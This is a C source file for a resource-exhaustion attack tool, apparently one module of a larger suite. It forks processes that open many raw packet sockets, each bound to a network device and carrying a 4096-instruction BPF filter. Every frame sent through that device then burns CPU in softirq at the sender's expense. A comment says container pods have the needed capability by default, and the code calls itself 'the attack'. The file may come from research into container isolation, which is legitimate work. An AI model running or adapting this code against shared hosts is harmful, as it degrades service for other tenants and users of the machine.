/* packet_filters DEVICE SOCKETS [divide|dissect]: opens packet sockets whose filters of 4096 instructions run in softirq
 * for every frame, in whoever writes the frame to the device. Needs CAP_NET_RAW, which pods have by default. */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>

#include "filter.h"

/* Sockets of a process. */
#define A_PROCESS 32

/* Opens that many sockets, or as many as there is memory for. */
static long open_sockets(long wanted, const struct sock_fprog *program, const struct sockaddr_ll *address) {
    for (long made = 0; made < wanted && !stopping; made++) {
        int packet = socket(AF_PACKET, SOCK_RAW, 0);
        if (packet < 0 || setsockopt(packet, SOL_SOCKET, SO_ATTACH_FILTER, program, sizeof *program) < 0) {
            perror("packet socket with a filter");
            return made;
        }
        if (bind(packet, (const struct sockaddr *)address, sizeof *address) < 0) die("bind");
    }
    return wanted;
}

int main(int argc, char **argv) {
    stop_on_signals();
    setpgid(0, 0);
    raise_descriptor_limit();
    if (argc < 2) return 2;
    long wanted = argument(argc, argv, 2, 200), made = 0;
    struct sock_fprog program = long_filter(argc > 3 ? argv[3] : NULL);
    struct sockaddr_ll address = {
        .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (!address.sll_ifindex) die("%s", argv[1]);
    /* Closing a packet socket waits for RCU, so few sockets a process let the attack end soon. */
    int report[2];
    if (pipe(report) < 0) die("pipe");
    for (long left = wanted; left > 0; left -= A_PROCESS) {
        pid_t child = fork();
        if (child < 0) die("fork");
        if (child == 0) {
            prctl(PR_SET_PDEATHSIG, SIGTERM);
            long opened = open_sockets(left < A_PROCESS ? left : A_PROCESS, &program, &address);
            if (write(report[1], &opened, sizeof opened) < 0) die("write");
            while (!stopping) pause();
            return 0;
        }
    }
    for (long left = wanted; left > 0; left -= A_PROCESS) {
        long opened;
        if (read(report[0], &opened, sizeof opened) != sizeof opened) die("read");
        made += opened;
    }
    if (!made) return 1;
    ready(made);
    while (!stopping) pause();
    kill(0, SIGTERM);
    while (wait(NULL) > 0 || errno == EINTR) continue;
    return 0;
}
